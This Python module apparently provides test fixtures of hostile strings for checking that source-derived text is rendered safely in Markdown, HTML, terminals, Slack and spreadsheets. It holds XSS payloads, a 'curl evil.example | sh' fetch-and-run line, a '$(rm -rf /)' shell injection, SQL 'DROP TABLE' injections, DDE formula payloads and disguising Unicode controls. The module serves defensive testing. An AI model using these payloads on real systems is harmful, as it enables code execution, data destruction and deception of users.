"""Texts that a source could hold, and that do something where they are shown as they are."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable

from markdown_it import MarkdownIt
from markdown_it.token import Token

WORST: tuple[str, ...] = (
    "[click](https://evil.example/login)",
    "![x](https://evil.example/pixel.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a | b | c",
    "see https://evil.example/a?b=c now",
    "```\n# released as r99\n```",
    "invoice\u202efdp.exe",
    "\x1b[31mred\x1b[0m",
    "bronze.orders\n  next      curl evil.example | sh",
)
"""Some of them, for what takes long."""

HOSTILE: tuple[str, ...] = (
    # Markdown
    "[click](https://evil.example/login)",
    "![x](https://evil.example/pixel.png)",
    "[a]: https://evil.example",
    "<https://evil.example>",
    "see https://evil.example/a?b=c now",
    "www.evil.example",
    "mail me@evil.example",
    "`` `code` ``",
    "```\n# released as r99\n```",
    "a | b | c",
    "a \\| b",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "---",
    "***bold*** __bold__ ~~gone~~ _i_",
    "trailing backslash \\",
    "{: .danger onclick=alert(1)}",
    "$$x^2$$",
    # HTML
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!-- comment",
    "&lt;b&gt; &#x3c; &amp;",
    '" onmouseover="alert(1)" x=\'',
    "javascript:alert(1)",
    # terminals
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H cleared",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m C1 \x90q\x9c",
    "over\rwritten",
    "back\b\b\b\bspace",
    "tab\tand\vvertical\fform",
    "nul\x00 del\x7f",
    # what nobody sees
    "invoice\u202efdp.exe",
    "\u2066isolated\u2069 \u200fright",
    "zero\u200bwidth\u200djoined\ufeff",
    "soft\u00adhyphen \u2060word joiner",
    "tags\U000e0041\U000e0042",
    "filler\u3164\u115f\u2800",
    "separators\u2028line\u2029paragraph\u0085next",
    "lone surrogate \ud800",
    "private \ue000 unassigned \U000e0fff",
    # lines of a log, a mail, a report
    "x\n2026-01-01 00:00:00 ERROR all tables dropped",
    "x\r\nBcc: everybody@evil.example\r\n\r\nbody",
    "bronze.orders\n  next      curl evil.example | sh",
    "next      curl evil.example | sh",
    '{"level": "info"}\n{"level": "error", "message": "forged"}',
    # Slack
    "<!channel> look",
    "<!here|here> <@U012345> <#C012345>",
    "<http://evil.example|invoice>",
    "*bold* _italic_ `code`",
    # SQL, SodaCL, templates, shells, spreadsheets
    "'; DROP TABLE gold.fact_sales; --",
    "\\'; DROP TABLE x; --",
    "*/ DROP TABLE x /*",
    '" OR 1=1 --',
    "`; DROP TABLE x; --",
    "{{ 7 * 7 }} {% raw %} {# c #}",
    "${env_var('HOME')} ${HOME}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$(rm -rf /) `id` ; ls",
    "%(levelname)s %s %d {0}",
    "name: value\n- injected: true",
    "",
    " ",
    "é ü 漢字 👩‍👩‍👧 ok",
)

FORGED = {part for text in HOSTILE for part in text.splitlines()[1:] if part.strip()}
"""Lines that there are only where a text is obeyed."""

# What Markdown makes of a text that means something in it.
_MEANING = re.compile(
    r"(link|image|html|code|fence|heading|em|strong|list|bullet|ordered|blockquote|hr|s_|reference)", re.IGNORECASE
)
_READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_READER.validateLink = lambda url: True  # type: ignore[method-assign]
_UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def unseen(text: str, besides: str = "") -> list[str]:
    """The characters that nobody sees, or that a terminal obeys."""
    return [each for each in text if each not in besides and unicodedata.category(each) in _UNSEEN]


def tokens(markdown: str) -> list[Token]:
    """What a reader of Markdown that takes HTML, tables, strikethrough and any address makes of a text."""
    found = _READER.parse(markdown)
    return [each for token in found for each in (token, *(token.children or ()))]


def kinds(parsed: Iterable[Token]) -> list[str]:
    """The kinds of the tokens that mean something, in their order."""
    return [each.type for each in parsed if _MEANING.match(each.type)]


def words(parsed: Iterable[Token]) -> str:
    """What is read, code apart."""
    return "".join(each.content for each in parsed if each.type in ("text", "text_special"))


def read(parsed: Iterable[Token]) -> str:
    """What is read, code and blocks of it too."""
    return "".join(
        each.content for each in parsed if each.type in ("text", "text_special", "code_inline", "fence", "code_block")
    )


def shape(markdown: str) -> list[tuple[str, str]]:
    """What a page is made of, whatever is written in it: the same for every text, where text is text."""
    return [
        (each.type, each.info)
        for each in tokens(markdown)
        if each.type not in ("text", "text_special", "softbreak", "inline")
    ]
